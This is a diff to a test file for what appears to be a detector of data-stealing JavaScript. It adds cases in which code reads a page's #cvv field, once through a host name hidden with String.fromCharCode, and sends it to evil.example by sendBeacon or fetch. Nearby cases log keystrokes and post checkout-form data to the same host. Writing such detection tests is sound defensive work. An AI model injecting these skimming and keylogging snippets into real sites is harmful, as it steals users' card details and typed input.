@@ -30,6 +30,12 @@ const positives: [string, string, string, string, string | null, boolean][] = [
     'value of a form field', 'fetch', 'evil.example', false],
   ['keystrokes from a keydown handler', `var k = ""; document.addEventListener("keydown", function (ev) { k += ev.key; if (k.length > 20) { new Image().src = "//evil.example/i?k=" + k; } });`,
     'keystroke (key) from a key event', 'Image.src', 'evil.example', false],
+  ['private class fields and a constructor-given endpoint',
+    `class R { #buf = new Map(); #url; constructor(u) { this.#url = u; } grab() { this.#buf.set("n", document.getElementById("cvv").value); } send() { navigator.sendBeacon(this.#url, JSON.stringify(Object.fromEntries(this.#buf))); } } new R("https://evil.example/b");`,
+    'value of #cvv', 'navigator.sendBeacon', 'evil.example', false],
+  ['an alias of String.fromCharCode spells the host',
+    `var s = String.fromCharCode; var h = s(104,116,116,112,115,58,47,47,101,118,105,108,46,101,120,97,109,112,108,101,47); fetch(h + document.getElementById("cvv").value);`,
+    'value of #cvv', 'fetch', 'evil.example', false],
   ['FormData of a form', `var f = document.querySelector("form#checkout"); fetch("https://evil.example/f", {method: "POST", body: new FormData(f)});`,
     'FormData of form#checkout', 'fetch', 'evil.example', false],
 ];
